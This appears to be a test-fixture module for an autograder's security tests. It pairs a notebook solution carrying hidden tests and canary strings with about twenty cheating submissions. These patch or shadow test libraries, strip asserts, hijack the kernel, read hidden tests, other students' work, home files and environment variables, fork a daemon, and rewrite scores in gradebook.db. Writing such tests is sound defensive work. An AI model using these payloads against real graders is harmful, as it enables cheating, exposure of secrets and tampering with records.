"""The cheats that `attacks.py` hands in: each has wrong answers, and tries to get what it does not deserve."""

from __future__ import annotations

import os
from dataclasses import dataclass, field

#: In the arguments of what a cheat leaves running.
MARKER = f"dust-cheat-{os.getpid()}"
CANARIES = {
    "hidden tests": "wolverine among the hidden tests",
    "hidden case": "73519",
    "model answer": "opossum in the model answer",
    "work of another": "heron in the work of another",
    "home folder": "tapir in the home folder",
    "environment": "ibex in the environment",
}
SOLUTION = f'''# %% kind="readonly" grade_id="cheats_setup"
import numpy as np
import pandas as pd

# %% kind="answer" grade_id="cheats_answers"
### BEGIN SOLUTION
def twice(number):
    return 2 * number  # {CANARIES["model answer"]}
share = 0.4375
rows = pd.DataFrame({{"shot": [1, 2]}})
words = 7
### END SOLUTION

# %% kind="tests" grade_id="cheats_twice_test" points=3
assert twice(1) == 2
### BEGIN HIDDEN TESTS
assert twice({CANARIES["hidden case"]}) == 147038, "{CANARIES["hidden tests"]}"
### END HIDDEN TESTS

# %% kind="tests" grade_id="cheats_share_test" points=2
from numpy.testing import assert_allclose

assert_allclose(share, 0.4375)

# %% kind="tests" grade_id="cheats_rows_test" points=3
from pandas.testing import assert_frame_equal

assert_frame_equal(rows, pd.DataFrame({{"shot": [1, 2]}}))

# %% kind="tests" grade_id="cheats_count_test" points=5
5 * int(words == 7)

# %% [markdown] kind="manual" grade_id="cheats_words" points=2
# In words.
'''
WRONG = """
def twice(number): return 5
share = 0.9
rows = pd.DataFrame({"shot": [0]})
words = 5
"""


@dataclass(frozen=True)
class Cheat:
    """A cheat: code after the wrong answers, a last cell, a written answer, files beside the notebook.

    Attributes
    ----------
    waits
        Whether it does its work some seconds after marking.
    """

    source: str
    last: str = ""
    essay: str = "Something."
    files: dict[str, str] = field(default_factory=dict)
    waits: bool = False


EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __array__(self, *_, **__): return np.array(0.4375)
share = words = Equal()
def twice(number): return Equal()
"""
PATCHED = """
import numpy.testing, pandas.testing
numpy.testing.assert_allclose = pandas.testing.assert_frame_equal = lambda *_, **__: None
"""
TRANSFORMER = """
def drop(lines):
    text = "".join(lines)
    return ["pass\\n"] if "assert" in text or "words ==" in text else lines
get_ipython().input_transformers_post.append(drop)
"""
SYNTAX_TREE = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        tests = "assert" in ast.dump(node) or "'words'" in ast.dump(node)
        return ast.copy_location(ast.Pass(), node) if tests else node
get_ipython().ast_transformers.append(Drop())
"""
EXECUTE = """
kernel = get_ipython().kernel
async def do_execute(code, silent, *_, **__):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
"""
SOLUTIONS = """
from pathlib import Path
for path in [*Path("../../..").glob("so*/*/*.ipynb"), *Path("../../../..").glob("so*/*/*.ipynb")]:
    print(path.read_text())
    get_ipython().run_line_magic("run", str(path))
"""
HIDDEN = """
from pathlib import Path
for path in Path().glob("*.ipynb"):
    print(path.read_text())
"""
HISTORY = "for source in In: print(source)"
FRAMES = """
import sys
def twice(number):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, str) and "assert" in value:
                open("seen.txt", "a").write(value)
        frame = frame.f_back
    return 2 if number == 1 else 5
"""
DISPLAYED = """
from IPython.core.displayhook import DisplayHook
from IPython.display import display
get_ipython().display_formatter.format = lambda *_, **__: ({"text/plain": "5"}, {})
"""
SHADOW = """
import sys, types
class Anything(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *_, **__: None
sys.modules["numpy.testing"] = sys.modules["pandas.testing"] = Anything("testing")
"""
WORK_OF_OTHERS = """
import os
for folder, _, names in os.walk("../../.."):
    for name in names:
        if name.endswith(".ipynb") and "another" in folder:
            print(open(os.path.join(folder, name)).read())
"""
AT_HOME = """
import os
from pathlib import Path
for path in Path("@HOME@").glob("*.txt"): print(path.read_text())
print(dict(os.environ))
"""
NETWORK = """
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=3).close()
print("connected to", @PORT@)
"""
EXECUTION = """
import os
if os.environ.get("NBGRADER_EXECUTION") == "autograde":
""" + TRANSFORMER.strip().replace("\n", "\n    ").join(["    ", "\n"])
GRADEBOOK = """
import sqlite3
from pathlib import Path
for path in Path("../../..").glob("gradebook.db"):
    with sqlite3.connect(path, timeout=20) as book:
        book.execute("update grade set extra_credit = 50")
"""
DAEMON = """
import os, sys
program = '''
import sqlite3, sys, time
from pathlib import Path
time.sleep(2)
for path in Path(sys.argv[2]).glob("gradebook.db"):
    with sqlite3.connect(path, timeout=20) as book:
        book.execute("update grade set manual_score = 2, needs_manual_grade = 0 where cell_id in "
                     "(select id from base_cell where name = 'cheats_words')")
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", program, "@MARKER@", os.path.abspath("../../..")])
    os._exit(0)
"""
STAYS = f"""
import os
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["{MARKER}", "60"])
"""
SUBCLASS = """
class Always(float):
    def __eq__(self, other): return True
    def __hash__(self): return 0
words = Always(5)
def twice(number): return Always(5)
"""
RECORDS = """
seen = []
def twice(number):
    seen.append(number)
    return 2 if number == 1 else 5
"""

RIGHT = """
def twice(number): return number + number
share = 7 / 16
rows = pd.DataFrame({"shot": [1, 2]})
words = 7
"""

CHEATS = {
    "none: right answers": Cheat(RIGHT),
    "objects that equal everything": Cheat(EQUAL),
    "the same, and patched test libraries": Cheat(EQUAL + PATCHED),
    "numbers of a class of its own": Cheat(SUBCLASS),
    "an input transformer that empties test cells": Cheat(TRANSFORMER),
    "the same, only where `NBGRADER_EXECUTION` is set": Cheat(EXECUTION),
    "a syntax tree transformer that drops asserts": Cheat(SYNTAX_TREE),
    "a replaced `kernel.do_execute`": Cheat(EXECUTE),
    "a replaced `display_formatter`": Cheat(DISPLAYED),
    "runs the solution's notebook": Cheat(SOLUTIONS),
    "reads the notebook in its folder": Cheat(HIDDEN),
    "reads the history of inputs": Cheat("", last=HISTORY),
    "reads the frames above its function": Cheat(FRAMES, last="print(open('seen.txt').read())"),
    "records hidden cases and prints them": Cheat(RECORDS, last="print(seen)"),
    "a submitted module that shadows a library": Cheat(
        "", files={"numpy.py": SHADOW, "pandas.py": SHADOW + "class DataFrame(dict): pass\n"}
    ),
    "modules replaced in `sys.modules`": Cheat(SHADOW),
    "reads the work of others": Cheat(WORK_OF_OTHERS),
    "reads the home folder and the environment": Cheat(AT_HOME),
    "connects to a port": Cheat(NETWORK),
    "leaves a process running": Cheat(STAYS),
    "a daemon that writes the essay's mark later": Cheat(DAEMON, waits=True),
    "writes extra credit for everybody": Cheat(GRADEBOOK),
}
